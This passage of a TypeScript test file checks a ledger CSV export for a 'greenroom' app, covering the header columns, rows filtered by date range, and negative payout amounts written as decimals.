    await approvedHours(t.db, admin, ines, "3", "2026-06-19");
    await approvedHours(t.db, admin, ines, "4", "2026-06-20");
    const { filename, body } = await ledgerCsv(t.db, acting(admin), {
      from: "2026-06-01",
      to: "2026-06-19",
    });
    expect(filename).toBe("greenroom-ledger-2026-06-01-to-2026-06-19.csv");
    const [header, ...rows] = parseCsv(body);
    expect(header).toEqual(LEDGER_CSV_HEADER);
    expect(header).toEqual([
      "entry_id",
      "occurred_on",
      "recorded_at",
      "artist_id",
      "artist_name",
      "artist_email",
      "kind",
      "description",
      "currency",
      "amount",
      "amount_minor",
      "contribution_id",
      "grant_id",
      "promotion_id",
      "payout_id",
      "stipend_month",
      "reverses_entry_id",
    ]);
    const col = (row: string[], name: string) => row[header!.indexOf(name)];
    expect(
      rows.map((r) => [
        col(r, "occurred_on"),
        col(r, "kind"),
        col(r, "amount"),
        col(r, "amount_minor"),
      ]),
    ).toEqual([
      ["2026-06-01", "earning", "80.00", "8000"],
      ["2026-06-19", "earning", "120.00", "12000"],
    ]);
    expect(col(rows[0]!, "description")).toBe("2 hours of testing on 1 Jun 2026");
    expect(col(rows[0]!, "artist_email")).toBe("ines@example.test");
    expect(col(rows[0]!, "contribution_id")).not.toBe("");
    const empty = await ledgerCsv(t.db, acting(admin), { from: "2025-01-01", to: "2025-12-31" });
    expect(parseCsv(empty.body)).toEqual([LEDGER_CSV_HEADER]);
  });

  it("ledgerCsv: a payout's negative amount reads as a decimal, not as neutralised text", async () => {
    const admin = await createUser(t.db, { role: "admin" });
    const ines = await createUser(t.db, { displayName: "Ines Okafor" });
    await publishCard(t.db, admin);
    await approvedHours(t.db, admin, ines, "2", "2026-06-10");
    const { payouts: made } = await newBatch(admin);
    const [debit] = await t.db
      .select()
      .from(ledgerEntries)
      .where(eq(ledgerEntries.payoutId, made[0]!.id));
    const { body } = await ledgerCsv(t.db, acting(admin), {
      from: debit!.occurredOn,
      to: debit!.occurredOn,
    });
    const [header, ...rows] = parseCsv(body);
    const row = rows.find((r) => r[header!.indexOf("kind")] === "payout")!;
    expect(row[header!.indexOf("amount_minor")]).toBe("-8000");
    expect(row[header!.indexOf("amount")]).toBe("-80.00");
  });
});
